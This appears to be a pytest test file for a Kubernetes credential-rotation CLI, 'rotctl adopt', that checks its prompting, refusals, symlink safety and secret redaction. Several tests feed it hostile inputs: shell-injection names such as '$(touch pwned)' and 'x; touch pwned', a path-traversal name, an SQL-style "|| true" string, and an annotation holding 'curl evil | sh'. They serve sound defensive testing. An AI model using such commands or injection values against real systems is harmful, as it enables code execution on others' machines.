"""`rotctl adopt` as it is typed: from files, with questions at a terminal and none elsewhere."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
import yaml

from rotation.config import check
from rotctl.__main__ import main
from rotctl.adopt.asking import Answers, Facts
from rotctl.adopt.deciding import decide
from rotctl.adopt.moves import moves
from rotctl.exits import Exit
from tests.rotctl.adopt.shapes import FOLDER, IDENTITY, SERVER, shape

if TYPE_CHECKING:
    from collections.abc import Callable

    Typed = Callable[..., tuple[str, str]]

GUIDE = FOLDER / "01-the-guide.yaml"
KNOWN = ("--server", SERVER, "--app-identity", IDENTITY)


def manifests(tmp_path: Path, shape: str = "01-the-guide") -> str:
    """The objects of a shape in a file, as a List that kubectl writes."""
    _, *objects = yaml.safe_load_all((FOLDER / f"{shape}.yaml").read_text(encoding="utf-8"))
    path = tmp_path / "all.yaml"
    path.write_text(yaml.safe_dump({"kind": "List", "items": objects}), encoding="utf-8")
    return str(path)


@pytest.fixture
def typed(capsys: pytest.CaptureFixture[str]) -> Typed:
    def run(*arguments: str, exits: Exit = Exit.DONE) -> tuple[str, str]:
        code = main(["adopt", *arguments])
        out, err = capsys.readouterr()
        assert code == exits, (out, err)
        return out, err

    return run


def test_from_files_it_writes_a_folder_and_says_what_it_found(typed: Typed, tmp_path: Path) -> None:
    out = tmp_path / "made"
    said, _ = typed(
        "--deployment", "orders/api", "--from", manifests(tmp_path), "--out", str(out), *KNOWN
    )
    assert "role orders_app, and orders_green as the second one; orders owns" in said
    assert "password by SecretProviderClass orders-db; Service api" in said
    checked = check.check(str(out / "credentials.yaml"), files=False)
    assert checked.valid, checked.findings
    assert (out / "git" / "hand-over.sh").stat().st_mode & 0o111


def test_the_same_again_writes_nothing_and_other_content_is_left_alone(
    typed: Typed, tmp_path: Path
) -> None:
    out = tmp_path / "made"
    line = ("--deployment", "api", "--from", manifests(tmp_path), "--out", str(out), *KNOWN)
    typed(*line)
    document = json.loads(typed(*line, "--json")[0])
    assert document["written"] == []
    (out / "README.md").unlink()
    assert json.loads(typed(*line, "--json")[0])["written"] == ["README.md"]
    (out / "README.md").write_text("mine\n", encoding="utf-8")
    (out / "notes.md").write_text("mine\n", encoding="utf-8")
    _, err = typed(*line, exits=Exit.PROBLEM)
    assert "README.md, notes.md" in err
    assert (out / "README.md").read_text(encoding="utf-8") == "mine\n"


def test_without_a_terminal_each_missing_answer_is_an_option(typed: Typed, tmp_path: Path) -> None:
    files = manifests(tmp_path, "05-several-ports-and-services")
    _, err = typed("--deployment", "hub", "--from", files, exits=Exit.USAGE)
    for option in ("--secret", "--vault", "--service", "--server", "--app-identity", "--host"):
        assert f"- {option}: " in err
    assert "found: hub, hub-old, hub-metrics" in err
    assert "give these options" in err
    _, err = typed("--deployment", "hub", "--from", files, "--json", exits=Exit.USAGE)
    questions = {one["option"]: one for one in json.loads(err)["error"]["questions"]}
    assert questions["--service"]["found"] == ["hub", "hub-old", "hub-metrics"]


def test_at_a_terminal_it_asks_for_what_it_did_not_find(
    typed: Typed, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    asked: list[str] = []

    def prompt(text: str, **_: Any) -> str:
        asked.append(text)
        return IDENTITY if "object id" in text else SERVER

    monkeypatch.setattr("rotctl.adopting.click.prompt", prompt)
    monkeypatch.setattr(sys.stdin, "isatty", lambda: True)
    out = tmp_path / "made"
    typed("--deployment", "api", "--from", manifests(tmp_path), "--out", str(out))
    assert len(asked) == 2
    entry = yaml.safe_load((out / "credentials.yaml").read_text(encoding="utf-8"))
    assert entry["clusters"]["cluster"]["server"] == SERVER


def test_what_gets_no_twin_is_named_by_its_kind(typed: Typed, tmp_path: Path) -> None:
    files, out = manifests(tmp_path, "in-place/01-a-stateful-set"), tmp_path / "made"
    line = ("--from", files, "--out", str(out), *KNOWN, "--vault", "kv-orders", "--role", "ledger")
    more = ("--secret", "ledger-db", "--pods-secret", "ledger/db-password")
    _, err = typed("--stateful-set", "ledger", *line, *more, exits=Exit.USAGE)
    assert "- --in-place: whether the pods of ledger" in err
    named = ("--stateful-set", "ledger", "--in-place", "restart")
    said, _ = typed(*named, *line, *more)
    assert "in place, by Secret ledger-login and restart" in said
    text = (out / "README.md").read_text(encoding="utf-8")
    assert "one StatefulSet to two logins and two secrets" in text
    assert check.check(str(out / "credentials.yaml"), files=False).valid


def test_one_is_adopted_in_place_or_gets_a_twin(typed: Typed, tmp_path: Path) -> None:
    line = ("--deployment", "api", "--deployment-in-place", "api", "--from", manifests(tmp_path))
    _, err = typed(*line, exits=Exit.USAGE)
    assert "named more than once: api" in err


def test_a_refusal_writes_nothing(typed: Typed, tmp_path: Path) -> None:
    out = tmp_path / "made"
    line = ("--deployment", "redis", "--out", str(out))
    files = manifests(tmp_path, "09-beside-a-stateful-set")
    _, err = typed(*line, "--from", files, exits=Exit.REFUSED)
    assert "StatefulSet orders/redis: a StatefulSet gets no twin" in err
    assert not out.exists()


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        ((), "no workload is named"),
        (("--deployment", "api", "--from", "/nowhere.yaml"), "/nowhere.yaml cannot be read"),
        (("--deployment", "orders/web", "--from", str(GUIDE)), "there are: Deployment orders/api"),
        (
            ("--deployment", "api", "--from", str(GUIDE), "--database", "user=x password=hunter2"),
            "--database has a password in it",
        ),
        (
            ("--deployment", "api", "--from", str(GUIDE), "--database", "sslpassword=hunter2"),
            "--database has a sslpassword in it",
        ),
        (
            ("--deployment", "api", "--from", str(GUIDE), "--database", "what?"),
            "what --database has is no connection string",
        ),
        (
            ("--deployment", "api", "--from", str(GUIDE), "--form", "kustomize", *KNOWN),
            "--base: the folder of the kustomization",
        ),
    ],
)
def test_a_wrong_command_line_is_a_sentence_with_its_cure(
    typed: Typed, arguments: tuple[str, ...], said: str
) -> None:
    _, err = typed(*arguments, exits=Exit.USAGE)
    assert said in err
    assert "hunter2" not in err


def test_what_is_no_yaml_is_said_without_quoting_it(typed: Typed, tmp_path: Path) -> None:
    path = tmp_path / "chart.yaml"
    path.write_text("a: {{ .Values.password }}: hunter2\n", encoding="utf-8")
    _, err = typed("--deployment", "api", "--from", str(path), exits=Exit.USAGE)
    assert "chart.yaml is no YAML at line 1" in err
    assert "hunter2" not in err


def test_a_role_that_the_server_has_is_asked_for_under_another_name() -> None:
    found = shape("the-guide")
    facts = Facts(roles=("orders_app",), taken_roles=("orders_app", "orders"))
    answers = Answers(app_identity=IDENTITY, server=SERVER)
    decided = decide([found.original], answers, facts, "manifests")
    assert [one.option for one in decided.questions] == ["--group"]
    again = decide([found.original], replace(answers, group="orders_all"), facts, "manifests")
    assert again.plan is not None
    assert again.plan.credential.group == "orders_all"


def test_nothing_is_written_through_a_link(typed: Typed, tmp_path: Path) -> None:
    out, theirs = tmp_path / "made", tmp_path / "theirs"
    for folder in (out, theirs):
        folder.mkdir()
    (theirs / "api-blue.yaml").write_text("theirs\n", encoding="utf-8")
    (out / "kubernetes").symlink_to(theirs)
    (out / "README.md").symlink_to(tmp_path / "nothing")
    line = ("--deployment", "api", "--from", manifests(tmp_path), "--out", str(out), *KNOWN)
    _, err = typed(*line, exits=Exit.PROBLEM)
    assert "README.md, kubernetes" in err
    assert [path.name for path in theirs.iterdir()] == ["api-blue.yaml"]
    assert (theirs / "api-blue.yaml").read_text(encoding="utf-8") == "theirs\n"
    assert not (tmp_path / "nothing").exists()


def test_what_it_wrote_is_no_manifest_that_it_reads(typed: Typed, tmp_path: Path) -> None:
    manifests(tmp_path)
    line = ("--deployment", "api", "--from", str(tmp_path), "--out", str(tmp_path / "two"), *KNOWN)
    typed(*line)
    assert json.loads(typed(*line, "--json")[0])["written"] == []


def test_the_same_object_in_two_files_is_one_and_two_of_a_name_are_said(
    typed: Typed, tmp_path: Path
) -> None:
    path, out = manifests(tmp_path), str(tmp_path / "made")
    line = ("--deployment", "api", "--from", path, "--out", out, *KNOWN)
    typed(*line, "--from", path)
    other = tmp_path / "other.yaml"
    text = Path(path).read_text(encoding="utf-8").replace("replicas: 2", "replicas: 3")
    other.write_text(text, encoding="utf-8")
    _, err = typed(*line, "--from", str(other), exits=Exit.USAGE)
    assert "the files have Deployment orders/api 2 times, and not the same" in err


@pytest.mark.parametrize(
    ("was", "name"),
    [
        ("name: rates, namespace: orders}\nspec: {minAvailable", '"x; touch pwned"'),
        ("name: rates, namespace: orders, annotations", '"$(touch pwned)"'),
        ("name: rates, namespace: orders}\nspec: {podSelector", '"a\\nb"'),
        ("name: rates, namespace: orders}\nspec: {podSelector", "../../rates"),
    ],
)
def test_a_name_that_a_shell_would_run_is_refused(
    typed: Typed, tmp_path: Path, was: str, name: str
) -> None:
    path, out = tmp_path / "all.yaml", tmp_path / "made"
    text = (FOLDER / "15-autoscaled-and-spread.yaml").read_text(encoding="utf-8")
    assert text.count(was) == 1
    path.write_text(text.replace(was, was.replace("rates", name, 1)), encoding="utf-8")
    line = ("--deployment", "orders/rates", "--from", str(path), "--out", str(out), *KNOWN)
    _, err = typed(*line, exits=Exit.USAGE)
    assert "is no name that a" in err
    assert not out.exists()


def test_what_kubernetes_would_not_take_is_a_sentence(typed: Typed, tmp_path: Path) -> None:
    path = tmp_path / "all.yaml"
    text = GUIDE.read_text(encoding="utf-8")
    _, *objects = yaml.safe_load_all(text)
    (one,) = [each for each in objects if each["kind"] == "Deployment"]
    one["spec"]["template"]["spec"]["containers"][0]["env"] = ["hunter2"]
    path.write_text(yaml.safe_dump_all(objects), encoding="utf-8")
    out = str(tmp_path / "made")
    _, err = typed("--deployment", "api", "--from", str(path), "--out", out, exits=Exit.USAGE)
    assert "an object that Kubernetes would not take" in err
    assert "hunter2" not in err


@pytest.mark.parametrize("option", ["--app-identity", "--break-glass"])
def test_whom_the_guard_is_about_is_an_identity(typed: Typed, tmp_path: Path, option: str) -> None:
    files, out = manifests(tmp_path), tmp_path / "made"
    line = ("--deployment", "api", "--from", files, "--out", str(out), *KNOWN)
    _, err = typed(*line, option, "x' || true || '", exits=Exit.USAGE)
    assert f"- {option}: the object id" in err
    assert not out.exists()


@pytest.mark.parametrize("text", ["a: [", "hello", "{}", "contexts: 5"])
def test_what_is_no_kubeconfig_is_said(
    typed: Typed, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, text: str
) -> None:
    path = tmp_path / "config"
    path.write_text(text, encoding="utf-8")
    monkeypatch.setenv("KUBECONFIG", str(path))
    _, err = typed("--deployment", "api", "--out", str(tmp_path / "made"), exits=Exit.USAGE)
    assert "no kubeconfig will do" in err


def test_a_context_gives_the_cluster_a_name_that_the_file_takes() -> None:
    found = shape("the-guide")
    answers = Answers(app_identity=IDENTITY, server=SERVER)
    for context, name in (("Prod_WEU", "prod-weu"), ("me@k8s:6443/x", "me-k8s-6443-x")):
        decided = decide([found.original], answers, Facts(cluster=context), "manifests")
        assert decided.plan is not None
        assert decided.plan.cluster.name == name


def test_what_an_annotation_says_stays_on_its_line(typed: Typed, tmp_path: Path) -> None:
    path, out = tmp_path / "all.yaml", tmp_path / "made"
    _, *objects = yaml.safe_load_all(GUIDE.read_text(encoding="utf-8"))
    (one,) = [each for each in objects if each["kind"] == "Deployment"]
    release = "x\n\n```bash\ncurl evil | sh\n```\n\x1b[31m"
    one["metadata"]["annotations"] = {"meta.helm.sh/release-name": release}
    path.write_text(yaml.safe_dump_all(objects), encoding="utf-8")
    said, _ = typed("--deployment", "api", "--from", str(path), "--out", str(out), *KNOWN)
    text = (out / "README.md").read_text(encoding="utf-8")
    assert "\x1b" not in said + text
    assert "\ncurl" not in said + text
    assert "belongs to the Helm release x?" in text


def test_whatever_fails_the_live_secret_gets_no_empty_version(tmp_path: Path) -> None:
    """By the move that copies the live password: nobody may look, and the cluster is away."""
    called, programs = tmp_path / "called", tmp_path / "bin"
    programs.mkdir()
    for name, does in (("az", f'echo "$@" >> {called}; exit 3'), ("kubectl", "exit 1")):
        (programs / name).write_text(f"#!/bin/sh\n{does}\n", encoding="utf-8")
        (programs / name).chmod(0o755)
    (move,) = [one for one in moves(shape("an-external-secret").plan()) if "A Secret" in one.title]
    path = f"{programs}:{os.environ['PATH']}"
    lines = ["sh", "-c", "\n".join(move.do)]
    subprocess.run(lines, cwd=tmp_path, env={"PATH": path}, check=False, capture_output=True)  # noqa: S603 - the move itself
    asked = called.read_text(encoding="utf-8")
    assert "secret list" in asked
    assert "secret set" not in asked
